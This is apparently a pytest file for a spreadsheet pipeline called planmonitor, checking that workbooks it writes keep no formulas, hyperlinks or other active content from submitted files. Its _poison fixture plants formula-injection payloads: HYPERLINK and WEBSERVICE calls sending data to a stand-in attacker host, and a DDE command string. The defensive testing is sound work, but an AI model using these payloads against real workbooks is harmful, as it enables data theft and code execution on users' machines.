"""No formula, link or active content from a submission in any workbook planmonitor writes.

A party pastes formulas (in its own cells, in others' cells, in the read-only monitor sheet),
hyperlinks to a web site, a calculating defined name and text that Excel would run as a formula.
After the whole round (feedback, merge, monitor workbook, next round's workbooks) every workbook
planmonitor wrote is unzipped and searched.
"""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from hostile.inert import problems
from hostile.tools import DEVELOPER, OTHER, Clock, edited, issued, submit
from pipeline.core.layout import SHEET_MONITOR, SHEET_OWN
from pipeline.demo.simulation import EditedWorkbook
from pipeline.stages.check import check_round
from pipeline.stages.collect import collect
from pipeline.stages.merge import merge_round
from pipeline.stages.session import Session

EVIL = "http://evil.example/steel"


def _poison(book: EditedWorkbook) -> None:
    own = book.book[SHEET_OWN]
    own.protection.sheet = False
    row = book.rows(SHEET_OWN)[0]
    own.cell(
        row, book.column(SHEET_OWN, "stoplight_explanation")
    ).value = f'=HYPERLINK("{EVIL}?"&A{row},"klik hier")'
    own.cell(row, book.column(SHEET_OWN, "zoning_status")).value = "=1+1"
    name = own.cell(row + 1, book.column(SHEET_OWN, "name"))
    name.hyperlink = EVIL
    text = own.cell(row + 1, book.column(SHEET_OWN, "bottleneck_explanation"))
    text.value = "=cmd|' /C calc'!A0"
    text.data_type = "s"  # typed as text, without Excel's text prefix
    monitor = book.book[SHEET_MONITOR]
    monitor.protection.sheet = False
    monitor["B5"] = f'=WEBSERVICE("{EVIL}")'
    rule = DataValidation(type="custom", formula1=f'WEBSERVICE("{EVIL}")')
    rule.add(f"A{row + 2}")
    own.add_data_validation(rule)
    book.book.defined_names["steel"] = DefinedName("steel", attr_text=f'WEBSERVICE("{EVIL}")')


def _written(session: Session) -> list[Path]:
    """Every workbook planmonitor wrote: outputs, party folders and the shared folder."""
    paths = session.config.paths
    ours = list(paths.outputs.rglob("*.xlsx"))
    for path in paths.storage.rglob("*.xlsx"):
        if "Archief" in path.parts or path.name == "ingevuld.xlsx":
            continue  # the received files themselves, kept as they came
        ours.append(path)
    return ours


def test_no_workbook_planmonitor_writes_carries_anything_active(session: Session) -> None:
    submit(session, DEVELOPER, edited(session, issued(session, DEVELOPER), _poison))
    submit(session, OTHER, edited(session, issued(session, OTHER), _poison))
    collect(session, clock=Clock())
    reports = check_round(session).reports
    assert all(r.feedback is not None for r in reports)
    assert any(f.code == "formula-not-allowed" for r in reports for f in r.findings)
    merge_round(session, clock=Clock())
    written = _written(session)
    kinds = {p.name.split(" ")[0] for p in written}
    assert {"Terugkoppeling", "Planmonitor"} <= kinds, kinds
    for path in written:
        assert problems(path.read_bytes()) == [], path


def test_the_check_itself_finds_what_was_pasted(session: Session) -> None:
    poisoned = edited(session, issued(session, DEVELOPER), _poison)
    found = problems(poisoned)
    assert any("formula" in p for p in found)
    assert any("external link" in p or "hyperlink" in p for p in found)
    assert any("defined name" in p for p in found)
    assert any("without prefix" in p for p in found)
    assert any("rule reaching outside" in p for p in found)


def test_a_feedback_copy_keeps_no_formula_and_no_outside_link(session: Session) -> None:
    submit(session, DEVELOPER, edited(session, issued(session, DEVELOPER), _poison))
    collect(session, clock=Clock())
    report = check_round(session).reports[0]
    assert report.feedback is not None
    book = openpyxl.load_workbook(io.BytesIO(report.feedback.read_bytes()))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.coordinate for c in cells if c.hyperlink is not None and c.hyperlink.target]
